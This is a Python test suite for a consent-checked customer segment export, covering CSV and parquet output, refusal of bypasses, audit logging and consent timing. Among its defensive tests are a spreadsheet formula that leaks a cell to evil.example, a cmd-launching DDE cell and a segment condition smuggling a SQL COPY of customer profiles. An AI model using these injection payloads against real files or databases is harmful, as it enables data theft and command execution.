"""Segment export files and the export register; includes the attempts to get round enforcement."""

from __future__ import annotations

import hashlib
import re
import stat
from pathlib import Path

import pandas as pd
import pytest

from cdp.errors import CdpError
from cdp.store import table_exists
from consent import enforce, export
from consent.export import export_segment, write_export
from consent.segments import SegmentError


def register(con) -> list[tuple]:
    return con.execute("SELECT segment, purpose, row_count, file_hash FROM export_register").fetchall()


def registered(con) -> int:
    """Rows in the export register (0 when no export was ever recorded)."""
    if not table_exists(con, "export_register"):
        return 0
    return con.execute("SELECT count(*) FROM export_register").fetchall()[0][0]


def test_csv_export_holds_only_consented_customers(con, settings, tmp_path: Path):
    out = tmp_path / "out" / "email.csv"
    result = export_segment(con, settings, "all_customers", "email_marketing", out)
    rows = pd.read_csv(out)
    assert rows.to_dict("records") == [
        {"customer_id": "cA", "email": "alee@mailbox.com"},
        {"customer_id": "cC", "email": "clee@mailbox.com"},
        {"customer_id": "cG", "email": "glee@mailbox.com"},
    ]
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    assert result.row_count == 3 and result.counts["withdrawn"] == 1 and result.counts["restricted"] == 1
    assert register(con) == [("all_customers", "email_marketing", 3, hashlib.sha256(out.read_bytes()).hexdigest())]
    members = con.execute("SELECT customer_id FROM export_members WHERE export_id = ? ORDER BY 1", [result.export_id])
    assert [r[0] for r in members.fetchall()] == ["cA", "cC", "cG"]
    assert not list(out.parent.glob(".*.tmp"))


def test_parquet_export_with_segment_fields(con, settings, tmp_path: Path, w):
    con.execute(
        "INSERT INTO stg_consent (consent_id, event_time, purpose, status, email, email_key) "
        "VALUES ('kc', ?, 'sms_marketing', 'granted', 'clee@mailbox.com', 'clee@mailbox.com')",
        [w.at(9)],
    )
    w.add_consent(con, "kb", w.at(9), "sms_marketing", "granted", crm_id="crmB")  # the household's other holder
    w.rebuild(con, as_of=w.at(20))
    out = tmp_path / "big.parquet"
    export_segment(con, settings, "big_spenders", "sms_marketing", out)
    rows = pd.read_parquet(out)
    assert list(rows.columns) == ["customer_id", "phone", "first_name", "total_spend"]
    assert rows.to_dict("records")[0]["customer_id"] == "cC" and len(rows) == 1
    assert rows["phone"].tolist() == ["+447911100999"] and rows["first_name"].tolist() == ["Cat"]


def test_writing_unapproved_rows_directly_is_refused_and_writes_nothing(con, tmp_path: Path):
    out = tmp_path / "bypass.csv"
    everyone = con.execute("SELECT customer_id, email FROM customer_profiles").df()  # no enforce.approve
    with pytest.raises(enforce.ConsentViolation, match="nothing was written"):
        write_export(con, everyone, segment="all_customers", purpose="email_marketing", out=out)
    assert not out.exists() and not list(tmp_path.iterdir()) and registered(con) == 0


def test_export_cannot_skip_the_final_check(con, settings, tmp_path: Path, monkeypatch):
    calls = []

    def spy(con_, purpose, rows):
        calls.append((purpose, len(rows)))
        raise enforce.ConsentViolation("stopped by test")

    monkeypatch.setattr(enforce, "verify", spy)
    out = tmp_path / "x.csv"
    with pytest.raises(enforce.ConsentViolation, match="stopped by test"):
        export_segment(con, settings, "all_customers", "email_marketing", out)
    assert calls == [("email_marketing", 3)] and not out.exists() and registered(con) == 0


def test_consent_withdrawn_between_selection_and_writing_is_caught(con, settings, tmp_path: Path, monkeypatch, w):
    real_approve = enforce.approve

    def approve_then_withdraw(con_, purpose, candidates=None):
        audience = real_approve(con_, purpose, candidates)
        con_.execute(
            "INSERT INTO stg_consent (consent_id, event_time, purpose, status, crm_id) "
            "VALUES ('race', ?, 'email_marketing', 'withdrawn', 'crmG')",
            [w.at(12)],
        )
        w.rebuild(con_, as_of=w.at(20))
        return audience

    monkeypatch.setattr(enforce, "approve", approve_then_withdraw)
    out = tmp_path / "race.csv"
    with pytest.raises(enforce.ConsentViolation, match="1 of 3"):
        export_segment(con, settings, "all_customers", "email_marketing", out)
    assert not out.exists()


def test_bad_requests_fail_before_anything_is_written(con, settings, tmp_path: Path):
    with pytest.raises(CdpError, match=r"must end in \.csv or \.parquet"):
        export_segment(con, settings, "all_customers", "email_marketing", tmp_path / "x.xlsx")
    with pytest.raises(CdpError, match="unknown purpose"):
        export_segment(con, settings, "all_customers", "spam", tmp_path / "x.csv")
    (settings.segments_dir / "evil.yaml").write_text(
        "name: evil\nwhere: \"x = ''; COPY customer_profiles TO '" + str(tmp_path / "leak.csv") + "'\"\n"
    )
    with pytest.raises(SegmentError, match="evil.yaml: condition 1"):
        export_segment(con, settings, "evil", "email_marketing", tmp_path / "x.csv")
    assert not list(tmp_path.glob("*.csv")) and not (tmp_path / "leak.csv").exists() and registered(con) == 0


def test_csv_lists_are_flattened(con, settings, tmp_path: Path):
    (settings.segments_dir / "chan.yaml").write_text("name: chan\nwhere: true\nfields: [channels]\n")
    out = tmp_path / "chan.csv"
    export.export_segment(con, settings, "chan", "email_marketing", out)
    assert pd.read_csv(out, keep_default_na=False)["channels"].tolist() == ["web", "store", ""]
    assert export._flat(pd.DataFrame({"channels": [["app", "web"]]}))["channels"].tolist() == ["app;web"]


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def test_csv_exports_defuse_spreadsheet_formulas_and_parquet_keeps_values(con, settings, tmp_path: Path, w):
    con.execute("UPDATE stg_records SET first_name = ?, last_name = '@SUM(1)' WHERE unit_id = 'crm:crmA'", [FORMULA])
    w.rebuild(con, as_of=w.at(20))
    (settings.segments_dir / "named.yaml").write_text("name: named\nwhere: true\nfields: [first_name, last_name]\n")
    first, last = con.execute("SELECT first_name, last_name FROM customer_profiles WHERE customer_id = 'cA'").fetchone()
    assert first.lower() == FORMULA.lower()  # the profile keeps what the CRM holds
    out = tmp_path / "named.csv"
    export_segment(con, settings, "named", "sms_marketing", out)
    row = pd.read_csv(out, dtype=str).set_index("customer_id").loc["cA"].to_dict()
    assert row == {"phone": "+447911100001", "first_name": f"'{first}", "last_name": f"'{last}"}
    assert register(con)[0][3] == hashlib.sha256(out.read_bytes()).hexdigest()  # the file as written
    typed = tmp_path / "named.parquet"
    export_segment(con, settings, "named", "sms_marketing", typed)
    assert pd.read_parquet(typed).set_index("customer_id").loc["cA", "first_name"] == first


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"), ("+SUM(A1)", "'+SUM(A1)"), ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("+44 7911 123456", "'+44 7911 123456"),
        ("+447911123456", "+447911123456"), ("-12.50", "-12.50"), ("12", "12"), ("Ann", "Ann"), ("'=1", "'=1"),
    ],
)  # fmt: skip
def test_only_cells_a_spreadsheet_would_run_are_prefixed(cell: str, written: str):
    assert export._defused(pd.DataFrame({"c": [cell, None], "n": [-1.5, 2.0]})).to_dict("list") == {
        "c": [written, None], "n": [-1.5, 2.0],
    }  # fmt: skip


def test_unwritable_destination_is_one_line(con, settings, tmp_path: Path):
    blocked = tmp_path / "not_a_dir"
    blocked.write_text("a file where a folder should be")
    with pytest.raises(CdpError, match="cannot write the export here") as caught:
        export_segment(con, settings, "all_customers", "email_marketing", blocked / "out.csv")
    assert "\n" not in str(caught.value) and registered(con) == 0


def test_an_export_carries_no_contact_point_its_purpose_does_not_need(con, settings, tmp_path: Path):
    (settings.segments_dir / "greedy.yaml").write_text("name: greedy\nwhere: true\nfields: [email, first_name]\n")
    with pytest.raises(CdpError, match="fields email are contact points sms_marketing does not need"):
        export_segment(con, settings, "greedy", "sms_marketing", tmp_path / "g.csv")
    assert not (tmp_path / "g.csv").exists() and registered(con) == 0
    export_segment(con, settings, "greedy", "email_marketing", tmp_path / "g.csv")  # the email is what it needs
    assert list(pd.read_csv(tmp_path / "g.csv").columns) == ["customer_id", "email", "first_name"]


def test_only_consent_export_records_exports():
    """One place writes export files and their register: every other path must call consent.export."""
    root = Path(__file__).resolve().parents[2]
    writers = {
        str(path.relative_to(root))
        for package in ("cdp", "consent", "identity", "pipelines")
        for path in (root / package).rglob("*.py")
        if re.search(r"INSERT\s+INTO\s+export_(register|members)", path.read_text(), re.IGNORECASE)
    }
    assert writers == {"consent/export.py"}


def test_every_export_is_written_to_the_audit_log(con, settings, tmp_path):
    """An export leaves one audit line with segment, purpose and row count, and no contact point."""
    result = export_segment(con, settings, "all_customers", "email_marketing", tmp_path / "out.csv")
    lines = con.execute("SELECT action, detail, count FROM audit_log WHERE action = 'export'").fetchall()
    assert lines == [("export", "all_customers for email_marketing", result.row_count)]
    assert "@" not in lines[0][1]


def test_a_withdrawal_that_came_into_force_since_the_last_run_applies_to_the_export(con, settings, tmp_path, w):
    from datetime import UTC, datetime, timedelta

    from consent.ledger import sync_ledger

    now = datetime.now(UTC).replace(tzinfo=None)
    # Consent state was computed on day 20; since then a withdrawal came into force (a run took it into the
    # ledger before its consent step). Another is dated a day ahead of the moment the ledger took it in (a
    # till's clock ahead): nobody withdraws for later, so it is in force at once.
    w.add_consent(con, "k80", datetime(2026, 1, 21), "email_marketing", "withdrawn", email="alee@mailbox.com")
    w.add_consent(con, "k81", now + timedelta(days=1), "email_marketing", "withdrawn", email="glee@mailbox.com")
    sync_ledger(con)
    result = export_segment(con, settings, "all_customers", "email_marketing", tmp_path / "email.csv")
    assert pd.read_csv(tmp_path / "email.csv")["customer_id"].tolist() == ["cC"]
    assert result.counts["withdrawn"] == 3


def test_a_grant_dated_ahead_waits_for_its_date(con, settings, tmp_path, w):
    from datetime import UTC, datetime, timedelta

    from consent.ledger import sync_ledger
    from consent.state import build_consent_state

    now = datetime.now(UTC).replace(tzinfo=None)
    w.add_consent(con, "k82", now + timedelta(days=1), "sms_marketing", "granted", email="clee@mailbox.com")
    sync_ledger(con)
    counts = build_consent_state(con)
    assert counts["events_dated_ahead"] == 1
    assert "cC" not in w.states(con, "sms_marketing")
    build_consent_state(con, as_of=now + timedelta(days=2))
    assert w.states(con, "sms_marketing")["cC"] == "granted"


def test_a_withdrawal_recorded_after_a_grant_dated_ahead_wins_when_the_grant_comes_due(con, settings, tmp_path, w):
    """A till writing local time as UTC east of Greenwich dates its grants ahead. The grant happened by the time
    the ledger recorded it, so a withdrawal given after that wins, whatever the grant's date says; it used to
    lose once the grant's date came, and the customer was exported again."""
    from datetime import UTC, datetime, timedelta

    from consent.ledger import sync_ledger
    from consent.state import build_consent_state

    now = datetime.now(UTC).replace(tzinfo=None)
    w.add_consent(con, "k83", now + timedelta(hours=2), "sms_marketing", "granted", email="clee@mailbox.com")
    sync_ledger(con)
    recorded = con.execute("SELECT recorded_at FROM consent_events WHERE consent_id = 'k83'").fetchall()[0][0]
    w.add_consent(con, "k84", recorded + timedelta(seconds=1), "sms_marketing", "withdrawn", email="clee@mailbox.com")
    sync_ledger(con)
    build_consent_state(con, as_of=now + timedelta(hours=3))  # the grant's date has come
    assert w.states(con, "sms_marketing")["cC"] == "withdrawn"


def test_a_withdrawal_at_a_systems_default_time_is_in_force_when_recorded(con, settings, tmp_path, w):
    """Dated 1970-01-01, a withdrawal lost to any grant; when it was given is unknown, so it counts from the
    moment the ledger recorded it, the latest it can have been."""
    from datetime import UTC, datetime

    from consent.ledger import sync_ledger
    from consent.state import build_consent_state

    assert w.states(con, "email_marketing")["cA"] == "granted"
    w.add_consent(con, "k86", datetime(1970, 1, 1), "email_marketing", "withdrawn", email="alee@mailbox.com")
    sync_ledger(con)
    build_consent_state(con, as_of=datetime.now(UTC).replace(tzinfo=None))
    assert w.states(con, "email_marketing")["cA"] == "withdrawn"
    export_segment(con, settings, "all_customers", "email_marketing", tmp_path / "email.csv")
    assert "cA" not in pd.read_csv(tmp_path / "email.csv")["customer_id"].tolist()
